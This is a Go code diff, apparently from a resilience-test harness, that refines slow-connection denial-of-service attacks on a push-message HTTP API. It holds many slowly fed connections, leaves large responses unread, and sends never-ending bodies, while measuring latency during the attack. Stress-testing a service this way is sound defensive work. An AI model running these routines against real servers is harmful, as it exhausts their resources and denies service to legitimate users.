@@ -6,6 +6,7 @@ import (
 	"encoding/json"
 	"errors"
 	"fmt"
+	"io"
 	"net"
 	"net/http"
 	"net/url"
@@ -25,7 +26,7 @@ const (
 )
 
 // A holding makes connections that each hold something: they send a request, and then a
-// piece now and then.
+// piece now and then, or read only the status of the answer.
 type holding struct {
 	connections int
 	request     string
@@ -33,15 +34,21 @@ type holding struct {
 	pause       time.Duration // before each piece
 }
 
+const (
+	renewal = time.Second     // from the end of a connection to the next one in its place
+	spread  = 6 * time.Second // over which they begin: while some renew, others wait for memory
+)
+
 // hold holds until ctx ends. A connection that is cut is made anew.
 func (v *victim) hold(ctx context.Context, h holding) (end func()) {
 	ctx, cancel := context.WithCancel(ctx)
 	var all sync.WaitGroup
-	for range h.connections {
+	for i := range h.connections {
 		all.Go(func() {
+			pause(ctx, spread*time.Duration(i)/time.Duration(h.connections))
 			for ctx.Err() == nil {
 				_ = v.holdOne(ctx, h) // it was cut
-				pause(ctx, backOff)
+				pause(ctx, renewal)
 			}
 		})
 	}
@@ -69,7 +76,11 @@ func (v *victim) holdOne(ctx context.Context, h holding) error {
 		pause(ctx, h.pause)
 		_, err = c.Write([]byte(h.piece))
 	}
+	status := make([]byte, len("HTTP/1.1 200"))
 	if err == nil {
+		_, err = io.ReadFull(c, status)
+	}
+	if err == nil && bytes.HasSuffix(status, []byte("200")) {
 		pause(ctx, time.Minute) // the server's own limit, by default
 	}
 	return err
@@ -96,7 +107,7 @@ func beside(ctx context.Context, v *victim, span time.Duration, h holding, other
 	lines := measure("usually", nil)
 	end := v.hold(ctx, h)
 	defer end()
-	pause(ctx, span/4)
+	pause(ctx, spread+span/4)
 	return append(lines, measure("during the attack", time.After(span))...), ctx.Err()
 }
 
@@ -116,15 +127,15 @@ func (v *victim) create(ctx context.Context, from, payload string) (status int, 
 
 // unreadAnswers is a client that opens a long push, and reads nothing of it.
 func unreadAnswers(ctx context.Context, v *victim, span time.Duration) ([]line, error) {
-	_, long, err := v.create(ctx, attacker, strings.Repeat("\x01", 1_000_000)) // six times as long in JSON
-	if err != nil {
-		return nil, err
+	made, long, err := v.create(ctx, attacker, strings.Repeat("\x01", 1_000_000)) // six times as long in JSON
+	if err != nil || made != http.StatusCreated {
+		return nil, fmt.Errorf("create: status %d, %w", made, err)
 	}
-	_, short, err := v.create(ctx, recipient, strings.Repeat("x", shortText))
-	if err != nil {
-		return nil, err
+	made, short, err := v.create(ctx, recipient, strings.Repeat("x", shortText))
+	if err != nil || made != http.StatusCreated {
+		return nil, fmt.Errorf("create: status %d, %w", made, err)
 	}
-	h := holding{connections: 10, request: raw("GET", "/api/v2/pushes/"+long, "", "")}
+	h := holding{connections: 16, request: raw("GET", "/api/v2/pushes/"+long, "", "")}
 	return beside(ctx, v, span, h, map[string]asking{
 		"recipient elsewhere, 3 KiB": func(ctx context.Context) (int, error) {
 			status, _, err := v.open(ctx, recipient, short, "")
@@ -135,7 +146,7 @@ func unreadAnswers(ctx context.Context, v *victim, span time.Duration) ([]line, 
 
 // endlessBodies is a client whose bodies are long and never end.
 func endlessBodies(ctx context.Context, v *victim, span time.Duration) ([]line, error) {
-	text := `{"push":{"payload":"` + strings.Repeat("x", 275_000)
+	text := `{"push":{"payload":"` + strings.Repeat("x", 330_000)
 	h := holding{
 		connections: 70, piece: "x", pause: time.Second,
 		request: raw("POST", "/api/v2/pushes", "Content-Type: application/json\r\nContent-Length: 8000000\r\n", text),
